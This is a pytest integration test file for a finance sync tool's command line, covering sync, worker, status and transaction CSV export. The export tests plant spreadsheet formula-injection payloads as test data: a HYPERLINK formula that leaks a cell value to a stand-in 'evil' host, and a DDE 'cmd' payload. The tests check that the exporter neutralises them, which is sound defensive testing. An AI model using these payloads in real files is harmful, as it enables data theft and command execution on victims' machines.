"""The sync bot's command line (a contract): sync, worker and export transactions."""

from __future__ import annotations

import csv
import os
import stat
import uuid
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlmodel import col, select

from models import BankAccount, LedgerTransaction, PlaidItem, SyncRun
from models.types import utcnow
from services import cli, sync_cli
from services.banking import get_access_token
from services.container import Container
from services.db import unit_of_work
from services.demo_bank import DemoBankHandle
from services.jobs import enqueue_due
from services.sync import SyncResult, edit_transaction, sync_item
from services.sync_state import acquire, release
from tests.integration.sync_helpers import FAST, corrupt_token, ledger, link_item, make_user, truth

CONTRACT = "transaction_id,date,account_id,account_name,name,merchant_name,amount,iso_currency_code,category,pending"


@pytest.fixture
def cli_env(container: Container, demo_bank: DemoBankHandle, monkeypatch: pytest.MonkeyPatch) -> None:
    """The environment a cron job would have: same database and keys, Plaid pointed at the demo bank."""
    s = container.settings
    monkeypatch.setenv("DATABASE_URL", s.effective_database_url)
    monkeypatch.setenv("FINSYNC_SECRET_KEY", s.secret_key.get_secret_value())  # type: ignore[union-attr]
    monkeypatch.setenv("FINSYNC_ENCRYPTION_KEYS", s.encryption_keys.get_secret_value())  # type: ignore[union-attr]
    monkeypatch.setenv("FINSYNC_DATA_DIR", str(s.data_dir))
    monkeypatch.setenv("PLAID_ENV", "demo")
    monkeypatch.setenv("PLAID_API_URL", demo_bank.url)


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_cli_sync_email_syncs_and_prints_a_line_per_item(cli_env, container, gateway, demo_bank, capsys) -> None:
    user_id = make_user(container)
    _, pid1 = link_item(container, gateway, user_id)
    _, pid2 = link_item(container, gateway, user_id, institution="ins_demo_2")
    assert cli.main(["sync", "--email", "ada@example.com"]) == 0
    out = capsys.readouterr().out.strip().splitlines()
    assert len([line for line in out if ": ok," in line]) == 2 and out[-1] == "2 of 2 connection(s) synced"
    assert ledger(container, user_id) == {**truth(demo_bank, pid1), **truth(demo_bank, pid2)}


def test_cli_sync_all_exits_1_when_an_item_fails(cli_env, container, gateway, capsys) -> None:
    good, bad = make_user(container), make_user(container, "bob@example.com")
    link_item(container, gateway, good)
    link_item(container, gateway, bad, username="user_login_required")
    assert cli.main(["sync", "--all"]) == 1
    out = capsys.readouterr().out
    assert "login required: Your bank needs you to sign in again" in out and "1 of 2 connection(s) synced" in out


def test_cli_sync_verify_exits_0_when_the_ledger_equals_the_bank_and_1_when_it_does_not(
    cli_env, container, gateway, demo_bank, capsys
) -> None:
    user_id = make_user(container)
    link_item(container, gateway, user_id)
    assert cli.main(["sync", "--email", "ada@example.com", "--verify"]) == 0
    out = capsys.readouterr().out
    assert "verified, the ledger equals the bank's" in out and "1 of 1 connection(s) verified" in out
    lost = sorted(ledger(container, user_id))[0]
    with unit_of_work(container.engine) as session:
        row = session.get(LedgerTransaction, lost)
        assert row is not None
        session.delete(row)
    assert cli.main(["sync", "--all", "--verify"]) == 1
    out = capsys.readouterr().out
    assert f"DIFFERS: 1 missing, 0 extra, 0 different (missing {lost})" in out
    assert "0 of 1 connection(s) verified" in out


def test_cli_worker_once_runs_due_jobs(cli_env, container, gateway, demo_bank, capsys) -> None:
    user_id = make_user(container)
    _, pid = link_item(container, gateway, user_id)
    assert cli.main(["worker", "--once"]) == 0
    out = capsys.readouterr().out
    assert "ran 1 job(s)" in out and "Demo" in out and ": ok, " in out  # a line per connection, by name
    assert ledger(container, user_id) == truth(demo_bank, pid)
    with unit_of_work(container.engine) as s:
        assert [r.trigger for r in s.exec(select(SyncRun)).all()] == ["first"]  # never synced: first


def test_cli_worker_once_exits_1_and_names_the_connection_when_a_sync_fails(
    cli_env, container, gateway, demo_bank, capsys
) -> None:
    user_id = make_user(container)
    link_item(container, gateway, user_id)
    _, broken = link_item(container, gateway, user_id, institution="ins_demo_2")
    demo_bank.set_fault(broken, "login_required")
    assert cli.main(["worker", "--once"]) == 1  # cron sees the failure
    lines = capsys.readouterr().out.strip().splitlines()
    assert sum(": ok, " in line for line in lines) == 1
    assert any("login required" in line for line in lines) and lines[-1] == "ran 2 job(s); 1 failed"


def test_export_csv_matches_the_ledger_contract(cli_env, container, gateway, demo_bank, tmp_path) -> None:
    user_id = make_user(container)
    item_id, pid = link_item(container, gateway, user_id)
    evil = demo_bank.mutate(
        pid, "add", cents=1999, name='=HYPERLINK("http://evil/?"&A1,"Refund")', merchant_name="-2+3"
    )
    refund = demo_bank.mutate(pid, "add", cents=-4550, name="REFUND", pending=True)
    sync_item(container, user_id, item_id, gateway=gateway, policy=FAST)
    edit_transaction(container, user_id, refund["transaction_id"], category="Returns")
    out = tmp_path / "out" / "tx.csv"
    assert cli.main(["export", "transactions", "--email", "ada@example.com", "--format", "csv", "--out", str(out)]) == 0
    raw = out.read_bytes()
    assert raw.decode("utf-8").startswith(CONTRACT)
    rows = {r["transaction_id"]: r for r in _rows(out)}
    bank = {t["transaction_id"]: t for t in demo_bank.truth(pid)}
    assert set(rows) == set(bank)
    for tid, t in bank.items():
        r = rows[tid]
        assert r["date"] == t["date"] and r["account_id"] == t["account_id"]
        assert r["amount"] == f"{-t['amount']:.2f}"  # statement sign: Plaid's reversed
        assert r["pending"] == ("true" if t["pending"] else "false")
        assert r["iso_currency_code"] == "USD" and r["account_name"]
    masks = {a.account_id: a.mask for a in gateway.accounts_get(get_access_token(container, user_id, item_id)).accounts}
    assert all(r["account_mask"] == masks[r["account_id"]] for r in rows.values())  # tells same-named accounts apart
    with unit_of_work(container.engine) as s:
        linked_at = s.get(PlaidItem, item_id).institution_name  # type: ignore[union-attr]
    assert linked_at and {r["institution_name"] for r in rows.values()} == {linked_at}  # and which bank
    assert (
        rows[evil["transaction_id"]]["name"].startswith("'=")
        and rows[evil["transaction_id"]]["merchant_name"] == "'-2+3"
    )
    assert rows[evil["transaction_id"]]["amount"] == "-19.99"
    assert (
        rows[refund["transaction_id"]]["amount"] == "45.50" and rows[refund["transaction_id"]]["category"] == "Returns"
    )
    other = next(t for t in bank.values() if t["transaction_id"] != refund["transaction_id"])
    assert rows[other["transaction_id"]]["category"] == other["personal_finance_category"]["detailed"]
    from services import audit

    [made] = [e for e in audit.list_events(container, user_id) if e.event == "transactions_exported"]
    assert audit.from_command_line(made) and made.detail == f"{len(rows)} transactions, {audit.COMMAND_LINE}"


def test_export_is_one_row_per_transaction_in_this_user_s_ledger_and_nothing_else(
    cli_env, container, gateway, demo_bank, tmp_path
) -> None:
    ada, bob = make_user(container), make_user(container, "bob@example.com")
    item_id, pid = link_item(container, gateway, ada)
    bob_item, bob_pid = link_item(container, gateway, bob)
    sync_item(container, bob, bob_item, gateway=gateway, policy=FAST)
    pending = demo_bank.mutate(pid, "add", cents=1250, name="COFFEE", pending=True)
    sync_item(container, ada, item_id, gateway=gateway, policy=FAST)
    edit_transaction(container, ada, pending["transaction_id"], excluded=True)  # hidden from totals, still a row
    posted = demo_bank.mutate(pid, "post", transaction_id=pending["transaction_id"])
    sync_item(container, ada, item_id, gateway=gateway, policy=FAST)
    out = tmp_path / "ada.csv"
    assert cli.main(["export", "transactions", "--email", "ada@example.com", "--format", "csv", "--out", str(out)]) == 0
    rows = _rows(out)
    ids = [r["transaction_id"] for r in rows]
    assert len(ids) == len(set(ids)) and set(ids) == set(ledger(container, ada)) == set(truth(demo_bank, pid))
    assert not set(ids) & set(truth(demo_bank, bob_pid))  # nothing of another user's
    assert posted is not None and pending["transaction_id"] not in ids  # the pending charge became its posted row
    row = next(r for r in rows if r["transaction_id"] == posted["transaction_id"])
    assert row["pending"] == "false" and row["amount"] == "-12.50" and row["excluded"] == "true"


def test_export_neutralises_formulas_in_every_cell_even_ids_and_codes(
    cli_env, container, gateway, demo_bank, tmp_path
) -> None:
    user_id = make_user(container)
    item_id, _ = link_item(container, gateway, user_id)
    sync_item(container, user_id, item_id, gateway=gateway, policy=FAST)
    with unit_of_work(container.engine) as s:  # what a hostile upstream could have put in ids and codes
        t = s.exec(select(LedgerTransaction).where(LedgerTransaction.user_id == user_id)).first()
        assert t is not None
        t.plaid_transaction_id, t.iso_currency_code = "=1+2", "@AB"
        account = s.get(BankAccount, t.account_id)
        assert account is not None
        account.plaid_account_id = "+cmd|' /C calc'!A0"
        s.add_all([t, account])
    out = tmp_path / "ids.csv"
    assert cli.main(["export", "transactions", "--email", "ada@example.com", "--format", "csv", "--out", str(out)]) == 0
    (row,) = [r for r in _rows(out) if r["transaction_id"].endswith("=1+2")]
    assert row["transaction_id"] == "'=1+2" and row["iso_currency_code"] == "'@AB"
    assert row["account_id"] == "'+cmd|' /C calc'!A0"
    for r in _rows(out):
        assert not any(cell[:1] in "=+-@\t\r" and cell[:1] for cell in r.values() if cell != r["amount"])


def test_export_date_range_is_inclusive(cli_env, container, gateway, demo_bank, tmp_path) -> None:
    user_id = make_user(container)
    item_id, pid = link_item(container, gateway, user_id)
    sync_item(container, user_id, item_id, gateway=gateway, policy=FAST)
    dates = sorted({t["date"] for t in demo_bank.truth(pid)})
    lo, hi = dates[3], dates[10]
    out = tmp_path / "range.csv"
    args = ["export", "transactions", "--email", "ada@example.com", "--format", "csv", "--out", str(out)]
    assert cli.main([*args, "--from", lo, "--to", hi]) == 0
    got = sorted(r["transaction_id"] for r in _rows(out))
    assert got == sorted(t["transaction_id"] for t in demo_bank.truth(pid) if lo <= t["date"] <= hi)


@pytest.mark.parametrize("day", ["20261201", "2026-W01", "2026-W01-1", "2026-12", "2026-02-30", "２０２６-12-01"])
def test_export_dates_are_yyyy_mm_dd_only(cli_env, tmp_path, capsys, day: str) -> None:
    """Python reads "20261201" and week dates too: a typo would export another range and say it succeeded."""
    out = tmp_path / "x.csv"
    args = ["export", "transactions", "--email", "ada@example.com", "--format", "csv", "--out", str(out)]
    for flag in ("--from", "--to"):
        with pytest.raises(SystemExit) as stopped:
            cli.main([*args, flag, day])
        assert stopped.value.code == 2 and f"{day!r} is not a date like 2025-01-31" in capsys.readouterr().err
    assert not out.exists()


@pytest.mark.parametrize(
    ("flag", "given", "said"),
    [
        ("--limit", "0", "'0' is not a number of jobs from 1 to 1000"),
        ("--limit", "5000", "'5000' is not a number of jobs from 1 to 1000"),
        ("--tick", "0", "'0' is not a number of seconds from 0.5 to 3600"),
        ("--tick", "-5", "'-5' is not a number of seconds from 0.5 to 3600"),
        ("--tick", "inf", "'inf' is not a number of seconds from 0.5 to 3600"),
    ],
)
def test_worker_refuses_a_limit_or_tick_that_would_spin_or_overflow(
    cli_env, capsys, flag: str, given: str, said: str
) -> None:
    """--limit 0 and --tick 0 or below made the worker spin on the database; --tick inf was an OverflowError."""
    with pytest.raises(SystemExit) as stopped:
        cli.main(["worker", "--once", flag, given])
    assert stopped.value.code == 2
    assert capsys.readouterr().err.strip().splitlines()[-1].endswith(f"argument {flag}: {said}")


def test_export_to_a_pipe_or_an_unwritable_path_says_so_in_one_line_and_changes_nothing(
    cli_env, container, gateway, demo_bank, tmp_path, capsys
) -> None:
    """The rename that puts an export in place would swap a device or pipe for a plain file (as root, /dev/null);
    a path it cannot write was a traceback. A link to a file of the user's gets the export, the link stays."""
    user_id = make_user(container)
    item_id, _ = link_item(container, gateway, user_id)
    sync_item(container, user_id, item_id, gateway=gateway, policy=FAST)
    args = ["export", "transactions", "--email", "ada@example.com", "--format", "csv", "--out"]
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    assert cli.main([*args, str(pipe)]) == 2
    said = capsys.readouterr().err.strip()
    assert (
        said
        == f"finsync: {pipe} is not a regular file (a device, pipe or socket): give a file name, such as transactions.csv."
    )
    assert stat.S_ISFIFO(pipe.lstat().st_mode)

    plain = tmp_path / "notes.txt"
    plain.write_text("kept\n")
    listed = sorted(tmp_path.iterdir())
    for bad in (plain / "x.csv", plain / "sub" / "x.csv"):  # under a file: no folder can be made there
        assert cli.main([*args, str(bad)]) == 2
        assert capsys.readouterr().err.strip() == f"finsync: Cannot write {bad}: Not a directory."
    assert plain.read_text() == "kept\n" and sorted(tmp_path.iterdir()) == listed  # no temp file left behind

    link = tmp_path / "latest.csv"
    link.symlink_to(plain)
    assert cli.main([*args, str(link)]) == 0
    assert link.is_symlink() and plain.read_text(encoding="utf-8").startswith(CONTRACT)


def test_export_for_an_unknown_email_fails_with_a_message(cli_env, tmp_path, capsys) -> None:
    args = ["export", "transactions", "--email", "nobody@example.com", "--format", "csv", "--out", str(tmp_path / "x")]
    assert cli.main(args) == 2
    assert "No user with the email address" in capsys.readouterr().err
    assert not (tmp_path / "x").exists()


def test_cli_sync_all_goes_on_past_an_unreadable_item_and_exits_1(
    cli_env, container, gateway, demo_bank, capsys
) -> None:
    users = [make_user(container), make_user(container, "bob@example.com")]
    items = sorted((u, *link_item(container, gateway, u)) for u in users)  # `sync --all` goes by user id
    corrupt_token(container, items[0][1])
    assert cli.main(["sync", "--all"]) == 1
    out = capsys.readouterr().out.strip().splitlines()
    assert "failed: The saved connection" in out[0] and ": ok," in out[1]
    assert out[-1] == "1 of 2 connection(s) synced"
    good_user, _, good_pid = items[1]
    assert ledger(container, good_user) == truth(demo_bank, good_pid)


def test_cli_sync_prints_a_line_for_an_item_whose_sync_raised(
    cli_env, container, gateway, monkeypatch, capsys, caplog
) -> None:
    user_id = make_user(container)
    broken, _ = link_item(container, gateway, user_id)
    link_item(container, gateway, user_id, institution="ins_demo_2")
    real = sync_cli.sync_item

    def sync_or_raise(c: Container, uid: uuid.UUID, item_id: uuid.UUID, **kwargs: Any) -> SyncResult:
        if item_id == broken:
            raise RuntimeError("token=secret")  # whatever it says stays in the log, not on stdout
        return real(c, uid, item_id, **kwargs)

    monkeypatch.setattr(sync_cli, "sync_item", sync_or_raise)
    assert cli.main(["sync", "--email", "ada@example.com"]) == 1
    captured = capsys.readouterr()
    lines = captured.out.strip().splitlines()
    assert len(lines) == 3 and lines[-1] == "1 of 2 connection(s) synced"
    assert any("failed: unexpected RuntimeError" in line for line in lines) and "secret" not in captured.out
    assert "Traceback" in caplog.text and "token=secret" in caplog.text  # the operator still sees why


def _hold_lease(container: Container, item_id: uuid.UUID, owner: str = "otherhost:1:worker:x") -> None:
    """Another process (on another host) is in the middle of syncing ``item_id``."""
    with unit_of_work(container.engine, immediate=True) as s:
        item = s.get(PlaidItem, item_id)
        assert item is not None and acquire(s, item, owner, datetime.now(UTC))


def test_cli_sync_waits_for_another_process_then_syncs_the_item_itself(
    cli_env, container, gateway, monkeypatch, capsys
) -> None:
    user_id = make_user(container)
    item_id, _ = link_item(container, gateway, user_id)
    _hold_lease(container, item_id)
    naps: list[float] = []

    def other_process_finishes(seconds: float) -> None:
        naps.append(seconds)
        if len(naps) == 2:
            release(container.engine, item_id, "otherhost:1:worker:x")

    monkeypatch.setattr(sync_cli, "_nap", other_process_finishes)
    assert cli.main(["sync", "--email", "ada@example.com"]) == 0
    out = capsys.readouterr().out
    assert "waiting for 1 connection(s) syncing in another process (up to 300 s)" in out
    assert len(naps) == 2 and ": ok, " in out and out.strip().endswith("1 of 1 connection(s) synced")
    assert len(ledger(container, user_id)) > 0  # synced here, after the other process let go


def test_cli_worker_once_exits_0_for_a_bank_syncing_elsewhere_and_syncs_its_webhook_on_the_next_pass(
    cli_env, container, gateway, demo_bank, capsys
) -> None:
    """A webhook's job that finds "Sync now" holding the bank is no failure for cron, and its request is kept."""
    user_id = make_user(container)
    item_id, pid = link_item(container, gateway, user_id)
    assert cli.main(["worker", "--once"]) == 0  # the first sync
    assert demo_bank.advance(pid, 2) > 0  # new transactions at the bank
    wall = replace(container, clock=utcnow)  # the worker runs on the wall clock
    with unit_of_work(wall.engine) as s:
        item = s.get(PlaidItem, item_id)
        assert item is not None
        item.sync_requested_at = utcnow()  # a verified SYNC_UPDATES_AVAILABLE webhook
    assert enqueue_due(wall) == 1  # an earlier tick queued the webhook's job ...
    _hold_lease(container, item_id)  # ... then another process took the bank before a worker ran it
    capsys.readouterr()

    assert cli.main(["worker", "--once"]) == 0  # cron sees no failure
    lines = capsys.readouterr().out.strip().splitlines()
    assert any(": already syncing: " in line for line in lines) and lines[-1] == "ran 1 job(s)"
    with unit_of_work(container.engine) as s:
        assert s.get(PlaidItem, item_id).sync_requested_at is not None  # type: ignore[union-attr]  # kept
    assert ledger(container, user_id) != truth(demo_bank, pid)

    release(container.engine, item_id, "otherhost:1:worker:x")
    assert cli.main(["worker", "--once"]) == 0
    lines = capsys.readouterr().out.strip().splitlines()
    assert any(": ok, " in line for line in lines) and lines[-1] == "ran 1 job(s)"
    assert ledger(container, user_id) == truth(demo_bank, pid)  # the webhook's sync ran once the bank was free
    with unit_of_work(container.engine) as s:
        runs = s.exec(select(SyncRun).order_by(col(SyncRun.started_at))).all()
        assert [r.trigger for r in runs] == ["first", "webhook"]  # the busy pass fetched nothing


def test_cli_sync_exits_1_when_an_item_stays_busy_past_the_wait(cli_env, container, gateway, capsys) -> None:
    user_id = make_user(container)
    item_id, _ = link_item(container, gateway, user_id)
    _hold_lease(container, item_id)
    assert cli.main(["sync", "--email", "ada@example.com", "--wait", "0"]) == 1
    out = capsys.readouterr().out
    assert "already syncing" in out and "0 of 1 connection(s) synced; 1 still syncing in another process" in out
    with pytest.raises(SystemExit) as refused:
        cli.main(["sync", "--email", "ada@example.com", "--wait", "-5"])
    assert refused.value.code == 2
    assert "not a number of seconds" in capsys.readouterr().err


def test_a_command_has_sent_its_mail_by_the_time_it_exits(
    cli_env, container, gateway, demo_bank, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With SMTP, the app hands mail to a sender thread; a command must not, or its exit cuts the mail off."""
    import time

    from services import container as container_module
    from services.mailer import MemoryMailer

    class SlowServer(MemoryMailer):
        """A mail server that takes a second to accept each message."""

        def send(self, to: str, subject: str, body: str, *, message_id: str | None = None) -> None:
            time.sleep(1)
            super().send(to, subject, body, message_id=message_id)

    server = SlowServer()
    monkeypatch.setenv("SMTP_URL", "smtp://mail.example.test:587")
    monkeypatch.setattr(container_module, "make_mailer", lambda *a, **kw: server)
    user_id = make_user(container)
    _, pid = link_item(container, gateway, user_id)
    assert cli.main(["sync", "--email", "ada@example.com"]) == 0  # the first sync: history, no digest
    assert demo_bank.advance(pid, 3) > 0  # new transactions at the bank
    assert cli.main(["sync", "--email", "ada@example.com"]) == 0
    # The process would exit here: the digest is at the server already, not on a thread still talking to it.
    assert [m["To"] for m in server.sent] == ["ada@example.com"]
    assert "new transaction" in str(server.sent[0]["Subject"])


def test_export_refuses_to_write_over_finsyncs_own_files_or_into_a_folder(
    cli_env, container, gateway, demo_bank, tmp_path, capsys
) -> None:
    """A mistyped --out must not replace the live database (with its WAL) or the key ring and call it success."""
    user_id = make_user(container)
    item_id, _ = link_item(container, gateway, user_id)
    sync_item(container, user_id, item_id, gateway=gateway, policy=FAST)
    kept = ledger(container, user_id)
    data = container.settings.data_dir
    data.mkdir(parents=True, exist_ok=True)
    keys = data / "secrets.env"
    keys.write_text("FINSYNC_SECRET_KEY=kept\n")
    targets = [keys, data / "elsewhere.csv", data]
    if container.engine.url.get_backend_name() == "sqlite":
        db = Path(str(container.engine.url.database))
        targets += [db, db.with_name(db.name + "-wal")]
    link = tmp_path / "innocent.csv"
    link.symlink_to(keys)  # a link to the key ring is the key ring
    dotenv = Path(".env")  # the settings file finsync reads from its working directory: it may hold the key ring
    dotenv.write_text("# FINSYNC_ENCRYPTION_KEYS may live here\n")
    targets.append(dotenv)
    before = {p: p.read_bytes() for p in targets if p.is_file()}
    for target in [*targets, link]:
        args = ["export", "transactions", "--email", "ada@example.com", "--format", "csv", "--out", str(target)]
        assert cli.main(args) == 2, target
        said = capsys.readouterr().err
        assert ("one of finsync's own files" in said or "is a folder" in said) and "Traceback" not in said, said
    assert {p: p.read_bytes() for p in before} == before
    assert not (data / "elsewhere.csv").exists()
    assert ledger(container, user_id) == kept != {}  # the database still reads, all there

    folder = tmp_path / "exports"
    folder.mkdir()
    args = ["export", "transactions", "--email", "ada@example.com", "--format", "csv", "--out", str(folder)]
    assert cli.main(args) == 2 and "is a folder: give a file name" in capsys.readouterr().err
    assert list(folder.iterdir()) == []


def test_cli_status_exits_1_while_due_syncs_wait_for_a_worker_and_0_once_one_ran_them(
    cli_env, container, gateway, capsys
) -> None:
    from datetime import timedelta

    from models import SyncJob

    assert cli.main(["status"]) == 0
    out = capsys.readouterr().out
    assert "sync bot: keeping up" in out and "banks: 0 connection(s)" in out
    link_item(container, gateway, make_user(container))
    assert enqueue_due(container) == 1
    with unit_of_work(container.engine) as s:  # queued twenty minutes ago (by the command's clock), never claimed
        job = s.exec(select(SyncJob)).one()
        job.due_at = utcnow() - timedelta(minutes=20, seconds=5)
        s.add(job)
    assert cli.main(["status"]) == 1  # what a monitoring check alerts on
    assert "sync bot: 1 due sync(s), the oldest waiting 20 min" in capsys.readouterr().out
    assert cli.main(["worker", "--once"]) == 0
    capsys.readouterr()
    assert cli.main(["status"]) == 0
    out = capsys.readouterr().out
    assert "sync bot: keeping up (0 due, 0 running" in out and "1 done and 0 failed in 24 h" in out
    assert "banks: 1 connection(s), 0 behind, 0 waiting for their owner" in out
